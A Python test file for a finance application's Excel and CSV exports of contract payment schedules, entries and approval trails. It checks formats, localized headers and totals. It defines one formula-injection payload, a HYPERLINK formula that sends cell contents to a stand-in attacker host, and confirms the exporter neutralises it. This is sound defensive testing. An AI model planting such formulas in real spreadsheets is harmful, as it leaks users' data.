"""Exports a finance office imports without rework: the schedule, its entries and the approval trail as Excel
(numbers with the currency's format, dates as dates, headers in the report's language, a totals row, an
autofilter, a frozen header) and as CSV in the language's conventions or plain for machines."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from api.spreadsheets import DATE, DATETIME, INTEGER, MONEY, TEXT, Column, Sheet, money_format, write_csv, write_xlsx
from language.words import words

D = Decimal
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _store(folder: Path) -> Any:
    from store.db import open_store

    return open_store(f"sqlite:///{folder / 'sib.db'}")


def _step(engine: Any, contract: str, entries: list[int], status: str, note: str | None = None) -> None:
    """Take a ledger step as a finance officer would, acknowledging any evidence flag with a reason."""
    from payments.ledger import StepRefused, take_step

    try:
        take_step(engine, contract, entries, status, "test:finance", note)
    except StepRefused as exc:
        if not exc.message.code.endswith("flagged"):
            raise
        take_step(engine, contract, entries, status, "test:finance", note or "checked",
                  acknowledged=list(exc.message.params["codes"]))


def _header(sheet: Any) -> list[Any]:
    return [c.value for c in sheet[1]]


def _table(sheet: Any) -> list[dict[str, Any]]:
    """The data rows (not the totals row) as dicts by header."""
    header = _header(sheet)
    last = int(sheet.auto_filter.ref.split(":")[1].lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    return [dict(zip(header, (c for c in row))) for row in sheet.iter_rows(min_row=2, max_row=last)]


# -- the writers on their own ---------------------------------------------------------------------------------------

def _sheet() -> Sheet:
    columns = [Column("period", "Period", TEXT), Column("payer", "Payer", TEXT),
               Column("day", "Due", DATE), Column("at", "When", DATETIME), Column("n", "Entry", INTEGER),
               Column("amount", "Amount", MONEY), Column("forecast", "Forecast", MONEY, total=False),
               Column("payer", "Payer (name)", TEXT, show=str.upper, machine=False)]
    rows = [{"period": "2022-Q3", "payer": INJECTION, "day": date(2022, 10, 30), "at": "2022-10-01T08:30:00.5Z",
             "n": 1, "amount": D("1234567.89"), "forecast": D("10.005")},
            {"period": "2022-Q4", "payer": "-1+2", "day": "2023-01-30", "at": None, "n": 2, "amount": D("-0.10"),
             "forecast": None},
            {"period": "2023-Q1", "payer": "city", "day": None, "at": None, "n": 3, "amount": D("99999999999.99"),
             "forecast": D("1")}]
    return Sheet("Plan: 2022/23 [draft]", columns, rows, totals=True)


def test_csv_styles_of_a_sheet(tmp_path: Path) -> None:
    sheet = _sheet()
    raw = write_csv(sheet, tmp_path / "sv.csv", "sv", "SEK").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel opens it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Period", "Payer", "Due", "When", "Entry", "Amount", "Forecast", "Payer (name)"]
    assert rows[1] == ["2022-Q3", "'" + INJECTION, "2022-10-30", "2022-10-01 08:30:00", "1", "1234567,89", "10,01",
                       "'" + INJECTION.upper()]
    assert rows[2][1] == "'-1+2" and rows[2][5] == "-0,10" and rows[2][2] == "2023-01-30" and rows[2][6] == ""
    assert [D(r[5].replace(",", ".")) for r in rows[1:]] == [r["amount"] for r in sheet.rows]

    en = list(csv.reader(io.StringIO(write_csv(sheet, tmp_path / "en.csv", "en", "SEK").read_text("utf-8-sig"))))
    assert en[1][5] == "1234567.89" and en[3][5] == "99999999999.99" and en[1][1] == "'" + INJECTION

    buffer = io.BytesIO()
    write_csv(sheet, buffer, "plain", "SEK")
    assert not buffer.getvalue().startswith(b"\xef\xbb\xbf")
    plain = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"))))
    assert plain[0] == ["period", "payer", "day", "at", "n", "amount", "forecast"]  # keys, no column only for people
    assert plain[1] == ["2022-Q3", "'" + INJECTION, "2022-10-30", "2022-10-01T08:30:00.5Z", "1", "1234567.89",
                        "10.005"]  # exact, as stored
    with pytest.raises(ValueError):
        write_csv(sheet, buffer, "xml")


def test_xlsx_of_a_sheet(tmp_path: Path) -> None:
    sheet = _sheet()
    write_xlsx([sheet, Sheet("Plan: 2022/23 [draft]", [Column("x", "X")], [])], tmp_path / "s.xlsx", "SEK", "sv")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    assert book.sheetnames == ["Plan  2022 23  draft", "Plan  2022 23  draft 2"]  # what Excel accepts, unique
    ws = book.worksheets[0]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:H4"
    assert all(c.font.bold for c in ws[1])
    amount = ws["F2"]
    assert isinstance(amount.value, float) and D(str(amount.value)) == D("1234567.89")
    assert amount.number_format == '#,##0.00 "kr"'
    assert ws["C2"].is_date and ws["C2"].value == datetime(2022, 10, 30) and ws["C2"].number_format == "yyyy-mm-dd"
    assert ws["C3"].value == datetime(2023, 1, 30)  # ISO text is written as a date too
    assert ws["D2"].value == datetime(2022, 10, 1, 8, 30) and ws["D2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert ws["B2"].value == "'" + INJECTION and ws["B2"].data_type == "s"  # shown, never run
    assert ws["B3"].value == "'-1+2" and ws["H2"].value == "'" + INJECTION.upper()
    totals = [c.value for c in ws[5]]
    assert totals[0] == words("sv").pgettext("spreadsheet", "Total")
    assert D(str(totals[5])) == sum((r["amount"] for r in sheet.rows), D(0)) == D("100001234567.78")
    assert totals[6] is None  # a forecast band is not summed
    assert ws["F5"].number_format == '#,##0.00 "kr"' and ws["F5"].font.bold
    assert ws.column_dimensions["F"].width >= len("100,001,234,567.78")
    empty = book.worksheets[1]
    assert _header(empty) == ["X"] and empty.auto_filter.ref == "A1:A1"


def test_money_formats_follow_currency_and_language() -> None:
    assert money_format("SEK", "sv") == '#,##0.00 "kr"'
    assert money_format("GBP", "sv") == '#,##0.00 "GBP"'
    assert money_format("GBP", "en") == '"GBP "#,##0.00'
    assert money_format("SEK", "en") == '"SEK "#,##0.00'
    assert money_format("JPY", "en") == '"JPY "#,##0' and money_format("KWD", "sv") == '#,##0.000 "KWD"'


# -- the schedule of a contract, end to end ---------------------------------------------------------------------

def test_schedule_exports_of_a_swedish_contract(demo_copy) -> None:
    from payments.ledger import read_ledger, read_steps

    folder, run = demo_copy
    engine = _store(folder)
    contract = "hasselby-school"
    ledger = read_ledger(engine, contract)
    seqs = [int(s) for s in ledger["seq"]]
    assert len(seqs) >= 3
    _step(engine, contract, seqs[:2], "approved", INJECTION)
    _step(engine, contract, seqs[:1], "invoiced")
    steps = read_steps(engine, contract)
    assert len(steps) >= 3

    shown = run("schedule", contract, "--json", "--csv", folder / "s.csv", "--xlsx", folder / "s.xlsx")
    assert shown.code == 0, shown.err
    plain = run("schedule", contract, "--json", "--csv", folder / "p.csv", "--csv-style", "plain")
    assert plain.code == 0, plain.err
    sv = words("sv", "SEK")

    book = openpyxl.load_workbook(folder / "s.xlsx")
    assert book.sheetnames == [sv.pgettext("sheet", s) for s in ("Schedule", "Entries", "Approval trail")]
    schedule, entries, trail = book.worksheets
    for ws in book.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref.startswith("A1:" + get_column_letter(ws.max_column))
    # headers in the report's language: Swedish for a contract in SEK
    assert _header(schedule)[:5] == [sv.pgettext("column", h) for h in
                                     ("Period", "Period ends", "Outcome payer", "Outcome payer id", "Calculated")]
    amount_h, status_h = sv.pgettext("column", "Amount"), sv.pgettext("column", "Status")
    due_h, payer_h = sv.pgettext("column", "Due date"), sv.pgettext("column", "Outcome payer")
    assert {amount_h, status_h, due_h, payer_h} <= set(_header(entries))

    rows = _table(entries)
    assert len(rows) == len(ledger)
    by_seq = {int(e["seq"]): e for e in ledger.to_dict(orient="records")}
    for row in rows:
        entry = by_seq[row[sv.pgettext("column", "Entry")].value]
        cell = row[amount_h]
        assert isinstance(cell.value, (int, float)) and cell.number_format == '#,##0.00 "kr"'
        assert D(str(cell.value)) == entry["amount"]
        assert row[payer_h].value != entry["payer"]  # the payer's name, beside its id
    statuses = {r[sv.pgettext("column", "Entry")].value: r[status_h].value for r in rows}
    assert statuses[seqs[0]] == sv.label("status", "invoiced") == "fakturerad"
    assert statuses[seqs[1]] == sv.label("status", "approved")
    approved = next(r for r in rows if r[sv.pgettext("column", "Entry")].value == seqs[1])
    assert approved[due_h].is_date and approved[due_h].number_format == "yyyy-mm-dd"
    totals = [c.value for c in entries[len(rows) + 2]]
    assert sv.pgettext("spreadsheet", "Total") in totals
    assert D(str(totals[_header(entries).index(amount_h)])) == sum(ledger["amount"], D(0))

    schedule_rows = _table(schedule)
    period_end = schedule_rows[0][sv.pgettext("column", "Period ends")]
    assert period_end.is_date and period_end.number_format == "yyyy-mm-dd"
    for column in ("Calculated", "Approved", "Invoiced"):
        header = sv.pgettext("column", column)
        total = [c.value for c in schedule[len(schedule_rows) + 2]][_header(schedule).index(header)]
        assert D(str(total)) == sum((D(str(r[header].value)) for r in schedule_rows), D(0))
    assert D(str([c.value for c in schedule[len(schedule_rows) + 2]][_header(schedule).index(
        sv.pgettext("column", "Invoiced"))])) == by_seq[seqs[0]]["amount"]

    # the approval trail: every step, with its entry, status, when, who and note (neutralised)
    trail_rows = _table(trail)
    assert len(trail_rows) == len(steps)
    for row, step in zip(trail_rows, steps.to_dict(orient="records")):
        assert row[sv.pgettext("column", "Step")].value == step["seq"]
        assert row[sv.pgettext("column", "Entry")].value == step["entry_seq"]
        assert row[status_h].value == sv.label("status", step["status"])
        assert row[sv.pgettext("column", "By")].value == step["by"]
        when = row[sv.pgettext("column", "When (UTC)")]
        assert when.is_date and when.value.isoformat()[:19] == step["at"][:19]
    notes = [r[sv.pgettext("column", "Note")] for r in trail_rows if r[sv.pgettext("column", "Note")].value]
    assert notes and all(n.value == "'" + INJECTION and n.data_type == "s" for n in notes)

    # CSV in Swedish: semicolons, decimal commas, UTF-8 with BOM; plain: the machine names, exact amounts
    raw = (folder / "s.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:4] == [sv.pgettext("column", h) for h in ("Period", "Period ends", "Outcome payer",
                                                                 "Outcome payer id")]
    text = (folder / "p.csv").read_bytes()
    assert not text.startswith(b"\xef\xbb\xbf")
    machine = list(csv.DictReader(io.StringIO(text.decode("utf-8"))))
    assert list(machine[0])[:3] == ["period", "payer", "calculated"]
    assert len(machine) == len(table) - 1
    for human, exact in zip(table[1:], machine):
        for key in ("calculated", "approved", "invoiced", "paid", "rejected"):
            value = human[table[0].index(sv.pgettext("column", key.capitalize()))]
            assert "." not in value and D(value.replace(",", ".")) == D(exact[key])
    booked = {k: sum((D(r[k]) for r in machine), D(0)) for k in ("approved", "invoiced")}
    assert booked == {"approved": by_seq[seqs[1]]["amount"], "invoiced": by_seq[seqs[0]]["amount"]}


def test_schedule_of_a_contract_in_pounds_is_english(demo_copy) -> None:
    folder, run = demo_copy
    assert run("schedule", "peterborough-reconviction", "--json", "--xlsx", folder / "p.xlsx", "--csv",
               folder / "p.csv").code == 0
    book = openpyxl.load_workbook(folder / "p.xlsx")
    assert book.sheetnames == ["Schedule", "Entries", "Approval trail"]
    entries = book["Entries"]
    header = _header(entries)
    assert header[:2] == ["Entry", "Period"] and "Amount" in header
    amount = entries.cell(row=2, column=header.index("Amount") + 1)
    assert amount.number_format == '"GBP "#,##0.00'
    lines = (folder / "p.csv").read_text("utf-8-sig").splitlines()
    assert lines[0].startswith("Period,Period ends,Outcome payer,")
    # --lang sv writes the same schedule in Swedish, amounts in pounds
    assert run("schedule", "peterborough-reconviction", "--json", "--lang", "sv", "--xlsx", folder / "s.xlsx").code == 0
    swedish = openpyxl.load_workbook(folder / "s.xlsx").worksheets[1]
    assert swedish.cell(row=2, column=header.index("Amount") + 1).number_format == '#,##0.00 "GBP"'
    bad = run("schedule", "peterborough-reconviction", "--csv", folder / "x.csv", "--csv-style", "excel")
    assert bad.code == 2 and "--csv-style 'excel'" in bad.err


def test_a_basis_hidden_from_a_payer_stays_hidden_in_the_workbook(demo_copy) -> None:
    from api.exports import schedule_sheets
    from contracts.registry import get_contract
    from payments.ledger import read_ledger, read_steps
    from payments.schedule import entry_rows

    folder, _ = demo_copy
    engine = _store(folder)
    stored = get_contract(engine, "hasselby-school")
    ledger = read_ledger(engine, stored.id)
    steps = read_steps(engine, stored.id)
    entries = entry_rows(ledger, {}, steps, stored.latest.terms)
    first = int(ledger["seq"].iloc[0])
    sheets = schedule_sheets(stored.latest.terms, [], entries, [], "en", hidden_basis=[first])
    shown = {e["entry"]: e for e in sheets[1].rows}
    assert shown[first]["calculation"] == "basis hidden: it counts too few people" and shown[first]["counts"] == ""
    others = [e for seq, e in shown.items() if seq != first]
    assert others and all(e["counts"] for e in others)
